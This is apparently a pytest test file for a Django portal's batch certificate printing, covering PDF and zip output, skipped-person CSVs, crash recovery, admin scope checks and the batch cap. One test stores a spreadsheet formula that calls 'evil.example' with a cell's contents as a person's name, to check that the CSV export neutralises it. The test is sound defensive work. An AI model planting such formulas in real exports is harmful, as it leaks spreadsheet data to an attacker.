"""Batch printing: the selection resolved in the admin's scope, the job that prints it (merged
PDF or zip, the people skipped and why), reuse of rendered issues, resuming after a crash, and
the cap."""

import csv
import io
import zipfile
from collections import Counter

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader

from accounts.models import Person
from certificates.models import CertificateIssue
from certificates.services import batch as batch_services
from certificates.services import batch_print_resolve, batch_print_start, certificate_request
from certificates.services.issues import NO_SEAL, issue_render
from portal.ids import with_check_character
from portal.models import AuditLog, Job
from portal.services import job_retry
from portal.tasks import run_job
from tests.certificates.support import approved_seal, filed_years
from tests.factories import make_person

pytestmark = pytest.mark.django_db

NO_HOURS = "所选年度还没有已备案的学时，暂不能生成证书。"


@pytest.fixture
def people(tree):
    """Three people of 平顶山 (seal approved): two with hours filed for 2020, one without."""
    approved_seal(tree, tree.pds)
    first = make_person(tree.hospital1, cert_no="4104000000001")
    second = make_person(tree.hospital2, cert_no="4104000000002")
    idle = make_person(tree.school, cert_no="4104000000003")
    filed_years(first, [2020])
    filed_years(second, [2020])
    return first, second, idle


def start(actor, **kwargs) -> Job:
    kwargs.setdefault("first_year", 2020)
    kwargs.setdefault("last_year", 2020)
    return batch_print_start(actor=actor, **kwargs)


def run(job: Job) -> Job:
    run_job(str(job.pk))
    job.refresh_from_db()
    return job


def test_merged_pdf_prints_two_and_lists_the_third(tree, people):
    first, second, idle = people
    hrss = tree.admins["pds"]
    job = run(start(hrss, person_ids=[idle.pk, second.pk, first.pk]))

    assert job.status == Job.Status.DONE, job.error_report
    assert job.done == job.total == 3
    assert job.result["printed"] == 2 and job.result["skipped"] == 1
    assert job.result["skipped_list"] == [
        {"person": idle.pk, "name": idle.user.name, "cert_no": "4104000000003", "reason": NO_HOURS}
    ]
    reader = PdfReader(io.BytesIO(job.result_file.read()))
    assert len(reader.pages) == 2
    printed = [pk for pk in job.params["person_ids"] if pk != idle.pk]
    names = {first.pk: first.user.name, second.pk: second.user.name}
    for page, person_id in zip(reader.pages, printed, strict=True):  # in printing order
        assert names[person_id] in page.extract_text()
    assert job.result_file.name.endswith(".pdf")
    issues = CertificateIssue.objects.filter(render_status=CertificateIssue.Render.READY)
    assert sorted(issues.values_list("person_id", flat=True)) == sorted([first.pk, second.pk])
    assert set(issues.values_list("requested_by", flat=True)) == {hrss.pk}


def test_zip_has_one_pdf_per_person_and_the_skipped_csv(tree, people):
    first, second, idle = people
    job = run(start(tree.admins["pds"], person_ids=[first.pk, second.pk, idle.pk], output="zip"))

    assert job.status == Job.Status.DONE, job.error_report
    archive = zipfile.ZipFile(io.BytesIO(job.result_file.read()))
    names = archive.namelist()
    assert sorted(names[:2]) == [
        f"4104000000001_{first.user.name}_2020.pdf",
        f"4104000000002_{second.user.name}_2020.pdf",
    ]
    assert names[2:] == ["未生成名单.csv"]
    for name in names[:2]:
        assert len(PdfReader(io.BytesIO(archive.read(name))).pages) == 1
    raw = archive.read("未生成名单.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so that Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows == [
        ["姓名", "证书管理号", "未生成原因"],
        [idle.user.name, "4104000000003", NO_HOURS],
    ]


def test_the_skipped_csv_neutralises_a_name_that_looks_like_a_formula(tree, people):
    _, _, idle = people
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    type(idle.user).objects.filter(pk=idle.user_id).update(name=formula)
    job = run(start(tree.admins["pds"], person_ids=[idle.pk], output="zip"))

    archive = zipfile.ZipFile(io.BytesIO(job.result_file.read()))
    rows = list(csv.reader(io.StringIO(archive.read("未生成名单.csv").decode("utf-8-sig"))))
    assert rows[1][0] == "'" + formula  # a spreadsheet shows it as text, never runs it


def test_an_issue_already_rendered_is_reused(tree, people):
    first, second, _ = people
    issue, _ = certificate_request(
        actor=first.user, person_id=first.pk, first_year=2020, last_year=2020, enqueue=False
    )
    issue = issue_render(issue_id=issue.pk)
    rendered_at, sha256 = issue.rendered_at, issue.sha256

    job = run(start(tree.admins["health"], person_ids=[first.pk, second.pk]))

    assert job.result["printed"] == 2
    assert CertificateIssue.objects.filter(person=first).count() == 1
    issue.refresh_from_db()
    assert (issue.rendered_at, issue.sha256) == (rendered_at, sha256)
    pdf = PdfReader(io.BytesIO(job.result_file.read()))
    assert first.user.name in pdf.pages[0].extract_text()


def test_a_crash_resumes_where_it_stopped_without_duplicates(
    tree, people, monkeypatch, django_capture_on_commit_callbacks
):
    first, second, idle = people
    hrss = tree.admins["pds"]
    calls = []

    def render_crashing_once(*, issue_id):
        calls.append(issue_id)
        if len(calls) == 2:
            raise RuntimeError("worker killed while rendering")
        return issue_render(issue_id=issue_id)

    monkeypatch.setattr(batch_services, "issue_render", render_crashing_once)
    job = run(start(hrss, person_ids=[first.pk, second.pk, idle.pk]))

    assert job.status == Job.Status.FAILED
    # Recorded up to the person before the one whose rendering crashed, not past it.
    crashed = CertificateIssue.objects.get(pk=calls[1]).person_id
    assert job.done == job.params["person_ids"].index(crashed)
    assert job.result["printed"] == 1
    assert not job.result_file
    with django_capture_on_commit_callbacks(execute=True):
        assert job_retry(job_id=str(job.pk), actor=hrss) is True
    job.refresh_from_db()

    assert job.status == Job.Status.DONE, job.error_report
    assert job.attempts == 2
    assert job.result["printed"] == 2 and job.result["skipped"] == 1
    assert Counter(CertificateIssue.objects.values_list("person_id", flat=True)) == {
        first.pk: 1,
        second.pk: 1,
    }
    assert len(PdfReader(io.BytesIO(job.result_file.read())).pages) == 2


def test_ids_out_of_scope_are_left_out(tree, people):
    first, second, _ = people
    job = start(tree.admins["hospital1"], person_ids=[first.pk, second.pk])
    assert job.params["person_ids"] == [first.pk]
    assert job.total == 1
    assert job.scope_path == tree.hospital1.path
    assert AuditLog.objects.filter(
        action="certificate.batch_print", target=f"job:{job.pk}"
    ).exists()


def test_a_neighbours_selection_cannot_reach_another_scope(tree, people):
    first, second, idle = people
    neighbour = tree.admins["lh"]
    with pytest.raises(ValidationError) as caught:
        start(neighbour, person_ids=[first.pk, second.pk, idle.pk])
    assert "都不在您的管辖范围内" in caught.value.messages[0]
    with pytest.raises(ValidationError):  # everyone filed for 2020 in 漯河: nobody
        start(neighbour, all_filed_year=2020)
    with pytest.raises(ValidationError) as caught:  # a unit of 平顶山 to narrow to
        start(neighbour, all_filed_year=2020, unit_id=tree.hospital1.pk)
    assert caught.value.message_dict == {"unit": ["所选单位不在您的管辖范围内。"]}

    lh_person = make_person(tree.lh_hospital, cert_no="4111000000001")
    filed_years(lh_person, [2020])
    job = start(neighbour, all_filed_year=2020)
    assert job.params["person_ids"] == [lh_person.pk]
    # 漯河 has no approved seal (and the province none either): listed with the reason.
    job = run(job)
    assert job.result["printed"] == 0
    assert job.result["skipped_list"][0]["reason"] == NO_SEAL
    assert not job.result_file  # a merged PDF of nobody is no file


def test_all_filed_in_a_year_within_scope(tree, people):
    first, second, idle = people
    hrss = tree.admins["pds"]
    filed_years(idle, [2019])  # filed, but not for 2020
    # An admin who is a person too, outside their own scope, is not printed by their batch.
    admin = tree.admins["hospital1"]
    admin.id_number = with_check_character("41040219900101123")
    admin.save(update_fields=["id_number"])
    own = make_person(tree.hospital2, user=admin, cert_no="4104000000009")
    filed_years(own, [2020])
    _, _, ids, unit = batch_print_resolve(
        actor=hrss, first_year=2019, last_year=2020, all_filed_year=2020
    )
    assert sorted(ids) == sorted([first.pk, second.pk, own.pk]) and unit is None
    _, _, ids, _ = batch_print_resolve(
        actor=tree.admins["hospital1"], first_year=2020, last_year=2020, all_filed_year=2020
    )
    assert ids == [first.pk]
    _, _, ids, unit = batch_print_resolve(
        actor=hrss, first_year=2020, last_year=2020, all_filed_year=2020, unit_id=tree.hospital2.pk
    )
    assert sorted(ids) == sorted([second.pk, own.pk]) and unit == tree.hospital2
    with pytest.raises(ValidationError) as caught:
        batch_print_resolve(actor=hrss, first_year=2019, last_year=2019, all_filed_year=2020)
    assert caught.value.message_dict == {"filed_year": ["备案年度应在打印的年度范围之内。"]}


def test_a_person_moved_out_of_scope_after_the_start_is_skipped(tree, people):
    first, second, _ = people
    job = start(tree.admins["health"], person_ids=[first.pk, second.pk], output="zip")
    Person.objects.filter(pk=first.pk).update(unit=tree.lh_hospital, org_path=tree.lh_hospital.path)
    job = run(job)
    assert job.result["printed"] == 1
    assert job.result["skipped_list"][0]["person"] == first.pk
    assert job.result["skipped_list"][0]["reason"] == batch_services.OUT_OF_SCOPE
    assert not CertificateIssue.objects.filter(person=first).exists()


def test_the_cap_is_enforced(tree, people, settings):
    settings.CERT_BATCH_MAX = 2
    hrss = tree.admins["pds"]
    first, second, idle = people
    filed_years(idle, [2020])
    with pytest.raises(ValidationError) as caught:
        start(hrss, all_filed_year=2020)
    assert caught.value.messages == [
        "所选人员共 3 人，超过单次批量打印的上限 2 人。请按单位分批打印。"
    ]
    with pytest.raises(ValidationError):
        start(hrss, person_ids=[first.pk, second.pk, idle.pk])
    assert not Job.objects.exists()
    assert start(hrss, person_ids=[first.pk, second.pk]).total == 2


def test_bad_input_changes_nothing(tree, people):
    hrss = tree.admins["pds"]
    with pytest.raises(ValidationError):
        start(hrss, person_ids=[])
    with pytest.raises(ValidationError):
        start(hrss, person_ids=[people[0].pk], output="docx")
    with pytest.raises(ValidationError) as caught:
        start(hrss, person_ids=[people[0].pk], first_year=2021, last_year=2020)
    assert "last_year" in caught.value.message_dict
    assert not Job.objects.exists()
